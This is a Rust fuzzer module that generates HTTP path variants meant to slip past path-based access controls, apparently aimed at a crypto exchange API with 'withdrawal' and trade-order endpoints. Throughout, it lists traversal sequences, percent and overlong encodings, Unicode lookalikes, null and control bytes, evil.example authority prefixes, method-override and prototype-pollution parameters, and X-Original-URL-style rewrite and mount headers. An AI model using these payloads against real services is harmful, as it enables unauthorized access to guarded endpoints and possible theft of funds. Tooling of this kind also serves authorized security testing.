//! Other spellings of the path.

use super::Mutator;
use crate::draft::Draft;
use crate::kit::HOST;
use crate::roll::Roll;

pub const ALL: &[Mutator] = &[
    ("case", case),
    ("suffix", suffix),
    ("between", between),
    ("encode", encode),
    ("lookalike", lookalike),
    ("invisible", invisible),
    ("prefix", prefix),
    ("authority", authority),
    ("query", query),
    ("segment", segment),
    ("neighbour", neighbour),
    ("mounted", mounted),
];

fn case(draft: &mut Draft, roll: &mut Roll) {
    let share = roll.pick(&[1, 4, 16]);
    for byte in &mut draft.path {
        if roll.below(share) == 0 {
            byte.make_ascii_uppercase();
        }
    }
}

fn suffix(draft: &mut Draft, roll: &mut Roll) {
    let suffix: &[u8] = roll.pick(&[
        b"/",
        b"//",
        b"/.",
        b"/./",
        b"/..",
        b"/x/..",
        b"/x/../",
        b"/%2e",
        b"%2f",
        b"%2F%2F",
        b"%5c",
        b"\\",
        b".json",
        b".do",
        b".action",
        b".html",
        b".htm",
        b".php",
        b".xml",
        b".css",
        b".js",
        b".txt",
        b".",
        b"..",
        b"%2e",
        b"%20",
        b"+",
        b"%09",
        b"%0a",
        b"%0d%0a",
        b"%00",
        b"%00.css",
        b"%00/",
        b";",
        b";a=b",
        b";.css",
        b"%3b",
        b"%3Ba=b",
        b";/",
        b"/;",
        b"/;/",
        b"%3f",
        b"%3fx",
        b"%23",
        b"%23x",
        b"#",
        b"#/x",
        b"?",
        b"*",
        b"~",
        b"!",
        b"%",
        b"%2",
        b"%zz",
        b"%ff",
        b"%c2%a0",
        b"%e2%80%8b",
        b"%ef%bb%bf",
        b"/index.php",
        b"/index",
        b"/-",
        b"&",
        b"=",
        b":",
        b",",
        b"|",
        b"'",
        b"\"",
        b"/%20",
        b"/%00",
        b"%252f",
        b"/%2e%2e/withdrawal",
        b"/..%2fwithdrawal",
        b".json.json",
        b"/.json",
        b"%3d",
        b"%26",
        b"\x80",
        b"\xc3\xa4",
        b"%85",
    ]);
    draft.path.extend(suffix);
}

/// Something at one of the slashes.
fn between(draft: &mut Draft, roll: &mut Roll) {
    let slashes: Vec<usize> =
        (0..draft.path.len()).filter(|at| draft.path.get(*at) == Some(&b'/')).collect();
    if slashes.is_empty() {
        return;
    }
    let at = roll.pick(&slashes);
    let with: &[u8] = roll.pick(&[
        b"//",
        b"///",
        b"/./",
        b"/x/../",
        b"/x/./../",
        b"/%2e/",
        b"/x/%2e%2e/",
        b"/x/.%2e/",
        b"/x%2f..%2f",
        b"/;/",
        b"/;x=1/",
        b"/.;/",
        b"/x/..;/",
        b"/x/..;a=b/",
        b";x/",
        b";/",
        b"%2f",
        b"%2F",
        b"%5c",
        b"\\",
        b"\\/",
        b"/\\",
        b"%252f",
        b"%255c",
        b"/%20/",
        b" /",
        b"%20/",
        b"./",
        b"%2e/",
        b"/%00/",
        b"%00/",
        b"%u002f",
        b"%u2215",
        b"%c0%af",
        b"%e0%80%af",
        b"%ef%bc%8f",
        b"%e2%81%84",
        b"/%09/",
        b"%0a/",
        b"/%0d",
        b"/?/",
        b"/%3f/",
        b"/%23/",
        b"/x/x/../../",
        b"/x//../",
        b"/.//",
        b"/*/",
    ]);
    draft.path.splice(at..=at, with.iter().copied());
}

/// Letters percent-encoded, once or more often.
fn encode(draft: &mut Draft, roll: &mut Roll) {
    let share = roll.pick(&[1, 8, 20]);
    let rounds = roll.pick(&[1, 1, 1, 2, 3, 4]);
    let upper = roll.coin();
    let mut path = Vec::new();
    for byte in &draft.path {
        if *byte == b'/' || roll.below(share) != 0 {
            path.push(*byte);
            continue;
        }
        let mut spelt = if upper { format!("%{byte:02X}") } else { format!("%{byte:02x}") };
        for _ in 1..rounds {
            spelt = spelt.replace('%', "%25");
        }
        path.extend(spelt.as_bytes());
    }
    draft.path = path;
}

/// A letter that some fold to another.
fn lookalike(draft: &mut Draft, roll: &mut Roll) {
    let (letter, looks): (u8, &[u8]) = roll.pick(&[
        (b'w', b"%ef%bd%97"),
        (b's', b"%c5%bf"),
        (b's', b"\xc5\xbf"),
        (b'i', b"%c4%b0"),
        (b'i', b"%c4%b1"),
        (b'a', b"%ef%bc%a1"),
        (b'w', b"%u0077"),
        (b'w', b"%U0057"),
        (b'a', b"%c1%a1"),
        (b'a', b"%e0%81%a1"),
        (b'h', b"%68"),
        (b'-', b"_"),
        (b'-', b"%2d"),
        (b'-', b"%e2%80%90"),
        (b'-', b"%ad"),
        (b'-', b"-%e2%80%8d"),
    ]);
    if let Some(at) = draft.path.iter().rposition(|byte| *byte == letter) {
        draft.path.splice(at..=at, looks.iter().copied());
    }
}

fn invisible(draft: &mut Draft, roll: &mut Roll) {
    let at = roll.below(draft.path.len().max(1)).min(draft.path.len());
    let with: &[u8] = roll.pick(&[
        b"%00",
        b"%0a",
        b"%0d",
        b"%09",
        b"%08",
        b"%7f",
        b"%20",
        b"+",
        b"%c2%ad",
        b"%e2%80%8b",
        b"%ef%bb%bf",
        b"%cc%81",
        b"%f3%a0%80%81",
        b"%ff",
        b"%80",
        b"%",
        b"%2",
        b"%%",
        b"\x00",
        b"\t",
        b"\x7f",
    ]);
    draft.path.splice(at..at, with.iter().copied());
}

fn prefix(draft: &mut Draft, roll: &mut Roll) {
    let prefix: &[u8] = roll.pick(&[
        b"/",
        b"//",
        b"/.",
        b"/..",
        b"/../..",
        b"/./",
        b"/x/..",
        b"/%2e",
        b"/%2e%2e",
        b"/.%2e",
        b"/;",
        b"/;x",
        b"/%2f",
        b"/%5c",
        b"\\",
        b"/\\",
        b"//evil.example",
        b"///evil.example",
        b"/%2fevil.example",
        b"/\\evil.example",
        b"/index.php",
        b"/index.php/",
        b"/INDEX.PHP",
        b"/index.php/.",
        b"/index%2ephp",
        b"//index.php",
        b"/./index.php",
        b"/x.php",
        b"/a/b.php",
        b"/static/..",
        b"/static/%2e%2e",
        b"/cgi-bin/..",
        b"/%20",
        b"/%00",
        b"/%09",
        b"/*",
        b"/?",
        b"/#",
        b"/~",
        b"/public/index.php",
        b"/app_dev.php",
    ]);
    draft.path.splice(0..0, prefix.iter().copied());
}

/// Absolute form, or no leading slash.
fn authority(draft: &mut Draft, roll: &mut Roll) {
    let prefixes = [
        format!("https://{HOST}"),
        format!("http://{HOST}"),
        format!("HTTPS://{HOST}"),
        format!("https://{HOST}:443"),
        format!("https://user@{HOST}"),
        format!("//{HOST}"),
        format!("https:/{HOST}"),
        format!("https://{}", HOST.to_uppercase()),
        "https://evil.example".into(),
        "http://evil.example:80".into(),
        "ftp://evil.example".into(),
        "https:".into(),
        "https://".into(),
        String::new(),
    ];
    let prefix = &prefixes[roll.below(prefixes.len())];
    if prefix.is_empty() && draft.path.first() == Some(&b'/') {
        draft.path.remove(0);
    }
    draft.path.splice(0..0, prefix.bytes());
}

fn query(draft: &mut Draft, roll: &mut Roll) {
    let pair = roll.pick(&[
        "",
        "?",
        "x",
        "x=1",
        "=",
        "&",
        ";",
        "/",
        "/../x",
        "a=b#c",
        "%00",
        "%zz",
        "_method=POST",
        "_METHOD=PUT",
        "_method=GET",
        "/api/v5/market/ticker",
        "format=json",
        "callback=x",
        "amt=1",
        "amt=1&amt=2",
        "toAddr=GOOD",
        "%61mt=1",
        "amt[]=1",
        "AMT=1",
        "json=1",
        "r=/x",
        "\\",
        "x=%ff",
        "x=\u{e4}",
        "?_method=PUT",
        "__proto__[amt]=1",
        "a[b][c]=1",
    ]);
    draft.ask(pair);
}

/// Another segment in the middle: a parameter's value, or a level more or less.
fn segment(draft: &mut Draft, roll: &mut Roll) {
    let segments: Vec<&[u8]> = draft.path.split(|byte| *byte == b'/').collect();
    if segments.len() < 3 {
        return;
    }
    let at = 1 + roll.below(segments.len() - 2);
    let with: &[u8] = roll.pick(&[
        b"",
        b".",
        b"..",
        b"%2e%2e",
        b"BTC%2fx",
        b"b/c",
        b"BTC;x",
        b"%00",
        b"%20",
        b"*",
        b"BTC%3f",
        b"BTC.json",
        b"V5",
        b"v5/v5",
        b"%2f",
        b"BTC%00",
        b"\xff",
        b"%ff",
        b"BTC/..",
        b"x/../BTC",
    ]);
    let mut segments = segments;
    if roll.coin() {
        segments[at] = with;
    } else {
        segments.insert(at, with);
    }
    draft.path = segments.join(&b"/"[..]);
}

/// An ordinary path in the request line, the guarded one where rewriting servers look.
fn neighbour(draft: &mut Draft, roll: &mut Roll) {
    let guarded = String::from_utf8_lossy(&draft.path).into_owned();
    let name = roll.pick(&[
        "X-Original-URL",
        "X-Rewrite-URL",
        "X_Original_URL",
        "X_Rewrite_Url",
        "X-Original-URI",
        "X-Forwarded-URI",
        "X-Forwarded-Path",
        "Request-URI",
        "REQUEST_URI",
        "PATH_INFO",
        "PATH-INFO",
        "X-Accel-Redirect",
        "X-HTTP-Path-Override",
        "X-Original-Path",
        "X-Envoy-Original-Path",
        "Location",
        "Destination",
        "Content-Location",
        "Referer",
        "Unencoded-Url",
        "UNENCODED_URL",
        "Orig-Path-Info",
        "ORIG_PATH_INFO",
        "SCRIPT_FILENAME",
    ]);
    draft.lines.retain(|line| !line.iter().any(|byte| *byte < b' '));
    let guarded: String = guarded.chars().filter(|letter| !letter.is_control()).collect();
    draft.header(name, &guarded);
    draft.path = roll.pick(&["/api/v5/market/ticker", "/api/v5/trade/order", "/", "/x"]).into();
}

/// Below a prefix that a header asks to be taken away.
fn mounted(draft: &mut Draft, roll: &mut Roll) {
    let name = roll.pick(&[
        "SCRIPT_NAME",
        "Script_Name",
        "script_name",
        "SCRIPT-NAME",
        "X-Script-Name",
        "X_Script_Name",
        "X-Forwarded-Prefix",
        "X_Forwarded_Prefix",
        "X-Forwarded-Path",
        "X-Base-Path",
        "X-Mount-Path",
        "PATH_INFO",
        "X-Ingress-Path",
        "X-Replaced-Path",
        "X-Original-Prefix",
    ]);
    let prefix = roll.pick(&["/x", "/x/", "/api", "/static", "/api/v5/market"]);
    draft.header(name, prefix);
    draft.path.splice(0..0, prefix.bytes());
}
